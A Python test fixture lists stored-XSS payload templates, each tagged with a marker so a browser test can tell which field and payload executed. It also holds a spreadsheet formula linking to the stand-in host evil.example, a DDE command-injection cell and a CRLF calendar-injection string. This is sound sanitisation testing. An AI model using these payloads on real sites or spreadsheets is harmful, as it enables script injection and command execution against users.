"""Stored-XSS payloads (issue 7), each carrying a marker that says where it was typed.

`PAYLOADS` are templates: `value(i, tag)` puts the marker `zq<tag><i>x` into
payload i, so a marker seen on a page names both the field and the payload.
Markers are lowercase letters and digits only: no escaping, squeezing or
upper-casing changes them. The payloads that could run would set
`window.__pwned` or request `/__xss__/<marker>`: the browser test watches both.
"""
import re

MARKER = re.compile(r"zq[a-z]+\d+x")
HOOK = "/__xss__/"

PAYLOADS = [
    "<script>window.__pwned='{m}'</script>",
    "<img src=/__xss__/{m} onerror=\"window.__pwned='{m}'\">",
    "<svg onload=\"window.__pwned='{m}'\">",
    "<svg><script>window.__pwned='{m}'</script></svg>",
    "javascript:window.__pwned='{m}'",
    "<a href=\"javascript:window.__pwned='{m}'\">{m}</a>",
    "\"><script>window.__pwned='{m}'</script><b x=\"",
    "' onfocus='window.__pwned=\"{m}\"' autofocus x='",
    "<div hx-get=\"/__xss__/{m}\" hx-trigger=\"load\">{m}</div>",
    "<div data-hx-post=\"/__xss__/{m}\" data-hx-trigger=\"load\">{m}</div>",
    "<hx-partial hx-target=\"#board\" hx-swap=\"innerHTML\"><b>{m}</b></hx-partial>",
    "{{7*7}} {m} {% for x in range(3) %}{{x}}{% endfor %}",
    "<iframe srcdoc=\"<img src=/__xss__/{m}>\"></iframe>",
    "<math><mtext><table><mglyph><style><img src=/__xss__/{m} onerror=alert(1)>",
    "<style>@import url(/__xss__/{m});</style>",
    "<meta http-equiv=\"refresh\" content=\"0;url=/__xss__/{m}\">",
    "=HYPERLINK(\"http://evil.example/{m}\",\"clic\")",
    "+cmd|' /C calc'!A0 @SUM(1) {m}",
    "[clic](javascript:window.__pwned='{m}') ![i](/__xss__/{m}.png) <b>{m}</b>",
    "<details open ontoggle=\"window.__pwned='{m}'\">{m}</details>",
    "\u202e{m}\u200b<script>\u2028window.__pwned=1</script>\ufeff",
    "ligne\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:{m}",
    "&lt;script&gt;{m}&#60;b&#62; &amp;",
    "<script>" + "A" * 1500 + "{m}</script>",
]
LONG = len(PAYLOADS) - 1   # the very long one: only for fields that take 2000 characters


def marker(i: int, tag: str) -> str:
    return f"zq{tag}{i}x"


def value(i: int, tag: str) -> str:
    """Payload i with the marker of field `tag`."""
    return PAYLOADS[i % len(PAYLOADS)].replace("{m}", marker(i % len(PAYLOADS), tag))


def fitting(max_len: int, tag: str) -> list[tuple[int, str]]:
    """Every payload that fits a field of `max_len` characters, as (index, value)."""
    return [(i, value(i, tag)) for i in range(len(PAYLOADS)) if len(value(i, tag)) <= max_len]
